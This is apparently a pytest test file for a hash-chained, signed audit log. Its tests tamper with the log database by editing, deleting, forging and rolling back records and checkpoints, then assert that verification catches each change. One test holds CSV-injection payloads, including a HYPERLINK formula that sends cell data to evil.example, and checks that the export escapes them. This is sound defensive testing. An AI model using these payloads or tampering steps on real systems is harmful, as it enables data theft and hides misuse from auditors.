"""The hash-chained audit log: every kind of tampering is detected and names the first bad record."""

from __future__ import annotations

import json
import os
import sqlite3

from procfs import open_to
import pytest

from codemoat.audit.log import AuditLog, AuditUnavailable, head_file_for, parse_since, record_hash
from codemoat.errors import CodemoatError


def fill(log: AuditLog, n: int) -> None:
    for i in range(n):
        log.append(
            user=f"u{i % 3}",
            token_id=f"tok_{i % 3}",
            route="/v1/completions",
            protocol="openai",
            model="tiny",
            repos=["acme/api"],
            snippets=[f"s{i}"],
            prompt_tokens=10 + i,
            completion_tokens=5,
            latency_ms=1.5 + i,
            status=200,
            client="127.0.0.1",
        )


def sql(db_file, statement: str, *args) -> None:
    con = sqlite3.connect(db_file)
    con.execute(statement, args)
    con.commit()
    con.close()


@pytest.fixture
def db_file(audit_home):
    return audit_home / "codemoat.db"


def test_intact_log_verifies(audit_log):
    fill(audit_log, 25)
    rep = audit_log.verify()
    assert rep.ok, rep
    assert (rep.records, rep.checkpoints, rep.head_seq) == (25, 2, 25)
    assert audit_log.checkpoint("shutdown") == 25
    assert audit_log.checkpoint("shutdown") is None  # nothing new to sign
    assert audit_log.verify().ok


def test_empty_log_verifies(audit_log):
    rep = audit_log.verify()
    assert rep.ok and rep.records == 0


def test_edited_record_detected(audit_log, db_file):
    fill(audit_log, 25)
    sql(db_file, "UPDATE audit_records SET completion_tokens = 9999 WHERE seq = 7")
    rep = audit_log.verify()
    assert not rep.ok and rep.first_bad == 7 and "edited" in rep.problem


def test_edited_and_rehashed_record_detected(audit_log, db_file):
    fill(audit_log, 25)
    con = sqlite3.connect(db_file)
    con.row_factory = sqlite3.Row
    row = dict(con.execute("SELECT * FROM audit_records WHERE seq = 7").fetchone())
    row["user"] = "someone-else"
    con.execute("UPDATE audit_records SET user = ?, hash = ? WHERE seq = 7", (row["user"], record_hash(row)))
    con.commit()
    rep = audit_log.verify()
    assert not rep.ok and rep.first_bad == 7, rep


def test_whole_chain_rewritten_detected_by_checkpoint(audit_log, db_file):
    """An attacker who re-hashes every record after an edit is caught by the signed checkpoint."""
    fill(audit_log, 25)
    con = sqlite3.connect(db_file)
    con.row_factory = sqlite3.Row
    rows = [dict(r) for r in con.execute("SELECT * FROM audit_records ORDER BY seq")]
    rows[13]["status"] = 500
    prev = rows[12]["hash"]
    for r in rows[13:]:
        r["prev_hash"] = prev
        r["hash"] = prev = record_hash(r)
        con.execute(
            "UPDATE audit_records SET status=?, prev_hash=?, hash=? WHERE seq=?",
            (r["status"], r["prev_hash"], r["hash"], r["seq"]),
        )
    con.commit()
    rep = audit_log.verify()
    assert not rep.ok and rep.first_bad == 11 and "checkpoint at record 20" in rep.problem, rep


def test_deleted_record_detected(audit_log, db_file):
    fill(audit_log, 25)
    sql(db_file, "DELETE FROM audit_records WHERE seq = 12")
    rep = audit_log.verify()
    assert not rep.ok and rep.first_bad == 12 and "deleted" in rep.problem


def test_deleted_and_renumbered_detected(audit_log, db_file):
    fill(audit_log, 25)
    sql(db_file, "DELETE FROM audit_records WHERE seq = 12")
    sql(db_file, "UPDATE audit_records SET seq = seq - 1 WHERE seq > 12")
    rep = audit_log.verify()
    assert not rep.ok and rep.first_bad == 11, rep


def test_inserted_record_detected(audit_log, db_file):
    fill(audit_log, 25)
    con = sqlite3.connect(db_file)
    con.row_factory = sqlite3.Row
    r8 = dict(con.execute("SELECT * FROM audit_records WHERE seq = 8").fetchone())
    # Make room after record 8 and forge a well-formed record 9 that links to it.
    con.execute("UPDATE audit_records SET seq = -seq WHERE seq > 8")
    con.execute("UPDATE audit_records SET seq = -seq + 1 WHERE seq < 0")
    forged = dict(r8, seq=9, user="ghost", prev_hash=r8["hash"])
    forged["hash"] = record_hash(forged)
    con.execute(f"INSERT INTO audit_records ({','.join(forged)}) VALUES ({','.join('?' * len(forged))})", tuple(forged.values()))
    con.commit()
    rep = audit_log.verify()
    assert not rep.ok and rep.first_bad == 9, rep


def test_appended_record_detected(audit_log, db_file):
    fill(audit_log, 5)
    con = sqlite3.connect(db_file)
    con.row_factory = sqlite3.Row
    r5 = dict(con.execute("SELECT * FROM audit_records WHERE seq = 5").fetchone())
    forged = dict(r5, seq=6, prev_hash=r5["hash"])
    forged["hash"] = record_hash(forged)
    con.execute(f"INSERT INTO audit_records ({','.join(forged)}) VALUES ({','.join('?' * len(forged))})", tuple(forged.values()))
    con.commit()
    rep = audit_log.verify()
    assert not rep.ok and rep.first_bad == 6 and "after the signed head" in rep.problem
    # The server refuses to extend a tampered chain rather than legitimise the forged record.
    with pytest.raises(AuditUnavailable, match="tampered"):
        fill(audit_log, 1)


def test_truncated_tail_detected(audit_log, db_file):
    fill(audit_log, 25)
    sql(db_file, "DELETE FROM audit_records WHERE seq > 22")  # past the last checkpoint (20)
    rep = audit_log.verify()
    assert not rep.ok and rep.first_bad == 23 and "truncated" in rep.problem


def test_truncated_tail_and_head_rolled_back_detected(audit_log, db_file):
    fill(audit_log, 25)
    sql(db_file, "DELETE FROM audit_records WHERE seq > 15")
    sql(db_file, "DELETE FROM audit_head")
    sql(db_file, "DELETE FROM audit_checkpoints WHERE seq > 15")
    rep = audit_log.verify()
    assert not rep.ok and rep.first_bad == 15, rep  # the head is gone: the end of the log is unsigned


def test_everything_deleted_detected_by_head_file(audit_log, db_file):
    fill(audit_log, 25)
    for t in ("audit_records", "audit_checkpoints", "audit_head"):
        sql(db_file, f"DELETE FROM {t}")
    rep = audit_log.verify()
    assert not rep.ok and rep.first_bad == 1 and "head file" in rep.problem


def test_deleted_checkpoint_detected(audit_log, db_file):
    fill(audit_log, 35)
    sql(db_file, "DELETE FROM audit_checkpoints WHERE seq = 20")
    rep = audit_log.verify()
    assert not rep.ok and "checkpoint at record 20 was deleted" in rep.problem


def test_forged_checkpoint_signature_detected(audit_log, db_file):
    fill(audit_log, 25)
    sql(db_file, "UPDATE audit_checkpoints SET signature = ? WHERE seq = 10", "00" * 64)
    rep = audit_log.verify()
    assert not rep.ok and "invalid signature" in rep.problem and rep.first_bad == 1


def test_other_key_detected(audit_log, audit_home, engine, db_url):
    fill(audit_log, 3)
    os.remove(audit_home / "machine.key")
    from codemoat.audit.signing import load_signer

    other = AuditLog(engine, signer=load_signer(), head_file=head_file_for(db_url, audit_home))
    rep = other.verify()
    assert not rep.ok and "not this machine's audit key" in rep.problem


def test_signing_key_is_private(audit_log, audit_home):
    fill(audit_log, 1)
    key = audit_home / "machine.key"  # the machine key signs the audit log
    assert key.stat().st_mode & 0o777 == 0o600
    key.chmod(0o644)
    from codemoat.audit.signing import load_signer

    with pytest.raises(CodemoatError, match="readable by other users"):
        load_signer()


def test_unwritable_database_refuses(audit_home, engine, db_url):
    import sqlalchemy as sa

    ro = sa.create_engine(f"sqlite:///file:{audit_home / 'codemoat.db'}?mode=ro&uri=true")
    log = AuditLog(ro)
    assert not log.check_writable()
    with pytest.raises(AuditUnavailable):
        log.append(user="a")
    assert AuditLog(engine).count() == 0


def test_export_formats_and_filters(audit_log):
    fill(audit_log, 4)
    audit_log.append("alert", user="u1", detail={"signals": ["volume"]})
    lines = list(audit_log.export("jsonl"))
    assert len(lines) == 5 and json.loads(lines[0])["repos"] == ["acme/api"]
    assert [json.loads(x)["kind"] for x in audit_log.export("jsonl", kind="alert")] == ["alert"]
    csv_text = "".join(audit_log.export("csv"))
    assert csv_text.splitlines()[0].startswith("seq,time,kind,user") and len(csv_text.splitlines()) == 6
    assert list(audit_log.export("jsonl", since=parse_since("1h"))) and not list(
        audit_log.export("jsonl", since=parse_since("2999-01-01"))
    )
    with pytest.raises(CodemoatError):
        list(audit_log.export("xml"))
    with pytest.raises(CodemoatError):
        parse_since("yesterday-ish")


def test_the_cli_csv_export_never_hands_a_spreadsheet_a_formula(audit_log):
    """`codemoat audit export --format csv` wrote a retained prompt such as =HYPERLINK(...) as a cell a
    spreadsheet runs (CSV injection); it now starts with a ', as the console's export does (d1020cc)."""
    import csv
    import io

    bad = ['=HYPERLINK("http://evil.example/?"&B2,"x")', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
    for b in bad:
        audit_log.append("request", user="alice", route="/v1/completions", status=200, prompt_text=b, latency_ms=-1)
    rows = list(csv.DictReader(io.StringIO("".join(audit_log.export("csv")))))
    assert [r["prompt_text"] for r in rows] == ["'" + b for b in bad]
    assert {float(r["latency_ms"]) for r in rows} == {-1.0}  # a number is a number, not text
    assert [json.loads(x)["prompt_text"] for x in audit_log.export("jsonl")] == bad  # JSONL keeps the text as it is


def test_head_file_rollback_detected(audit_log, audit_home, db_file, db_url):
    """Dropping the last record and putting back the previous signed head from the file's other slot fails."""
    fill(audit_log, 6)
    hf = head_file_for(db_url, audit_home)
    raw = hf.read_bytes()
    older = json.loads(raw[512:1024] if json.loads(raw[:512])["seq"] == 6 else raw[:512])
    assert older["seq"] == 5
    sql(db_file, "DELETE FROM audit_records WHERE seq = 6")
    sql(
        db_file,
        "UPDATE audit_head SET seq=?, hash=?, ts_us=?, signature=? WHERE id=1",
        older["seq"],
        older["hash"],
        older["ts_us"],
        older["signature"],
    )
    rep = audit_log.verify()
    assert not rep.ok and rep.first_bad == 6 and "head file" in rep.problem
    slot6 = 0 if json.loads(raw[:512])["seq"] == 6 else 512
    hf.write_bytes(raw[:slot6] + b"x" * 512 + raw[slot6 + 512 :])  # and damage the newer slot too
    rep = audit_log.verify()
    assert not rep.ok and "damaged" in rep.problem
    hf.write_bytes(raw[:slot6] + b"\x00" * 512 + raw[slot6 + 512 :])  # or blank it
    rep = audit_log.verify()
    assert not rep.ok and "blank slot" in rep.problem


def test_verifier_and_writer_share_the_chain_without_a_cycle():
    """`audit.verify` reads the chain's shape from `audit.chain`, never from the writer (`audit.log`)."""
    import subprocess
    import sys

    code = "import sys, codemoat.audit.verify; print('codemoat.audit.log' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip() == "False"
    from codemoat.audit import chain, log

    assert log.records is chain.records and log.record_hash is chain.record_hash  # still importable from log


def test_concurrent_appends_are_group_committed_into_one_valid_chain(audit_log, engine):
    """Eight request threads appending at once: every caller gets its own sequence number, the
    chain verifies, and the records went in fewer transactions than records (group commit)."""
    import threading

    from sqlalchemy import event

    commits = []

    def on_commit(conn) -> None:
        commits.append(1)

    event.listen(engine, "commit", on_commit)
    seqs: list[int] = []
    lock = threading.Lock()
    go = threading.Barrier(8)

    def writer(i: int) -> None:
        go.wait()
        for j in range(40):
            s = audit_log.append("request", user=f"u{i}", route="/v1/completions", status=200, prompt_tokens=j)
            with lock:
                seqs.append(s)

    threads = [threading.Thread(target=writer, args=(i,)) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    event.remove(engine, "commit", on_commit)
    assert sorted(seqs) == list(range(1, 321))
    assert audit_log.verify().ok
    assert len(commits) < 320


def test_an_unexpected_error_in_a_group_commit_answers_every_waiter(audit_log, monkeypatch):
    """A bug or a driver error of an unforeseen kind while a batch is written is AuditUnavailable
    (a 503, nothing served) for every request whose record was in that batch. Before, only the
    leader got the error; the others found their record neither written nor failed and flushed an
    empty batch of their own, with whatever that raised (or returned)."""
    import threading

    audit_log.append("request", user="alice", status=200)
    real = audit_log._append_locked

    def broken(rows, batch):
        raise RuntimeError("unforeseen")

    monkeypatch.setattr(audit_log, "_append_locked", broken)
    got: list[object] = []

    def writer(i: int) -> None:
        try:
            got.append(audit_log.append("request", user=f"u{i}", status=200))
        except Exception as e:  # what the request's audit layer would see
            got.append(e)

    with audit_log._lock:  # both wait for the writer lock, so they go in one batch
        threads = [threading.Thread(target=writer, args=(i,)) for i in range(2)]
        for t in threads:
            t.start()
        while len(audit_log._pending) < 2:
            threading.Event().wait(0.01)
    for t in threads:
        t.join(timeout=30)
    assert len(got) == 2 and all(isinstance(e, AuditUnavailable) for e in got), got
    assert "RuntimeError" in str(got[0])
    monkeypatch.setattr(audit_log, "_append_locked", real)
    assert audit_log.append("request", user="bob", status=200) == 2  # the next append works, nothing half-written
    assert audit_log.verify().ok


def test_a_closed_or_dropped_log_leaves_no_descriptor_on_its_head_file(engine, audit_home, db_url):
    """The head file is written through a descriptor kept open; close() kept it open too, and a log collected
    without close() left it open for good (a raw descriptor has no finalizer): one more per log a process
    made, ~1,000 in the test suite's process by its end. A later append after close() still writes the file."""
    import gc

    hf = head_file_for(db_url, audit_home)
    log = AuditLog(engine, checkpoint_every=10, head_file=hf)
    fill(log, 2)
    assert open_to(hf) == 1 and json.loads(hf.read_bytes()[:512])["seq"] == 2  # the positive: it is written
    log.close()
    assert open_to(hf) == 0
    fill(log, 1)  # used after close(): the file is opened again and written
    assert 3 in {json.loads(hf.read_bytes()[i : i + 512])["seq"] for i in (0, 512)} and open_to(hf) == 1
    log.close()

    dropped = AuditLog(engine, checkpoint_every=10, head_file=hf)
    fill(dropped, 1)
    assert open_to(hf) == 1
    del dropped
    gc.collect()
    assert open_to(hf) == 0
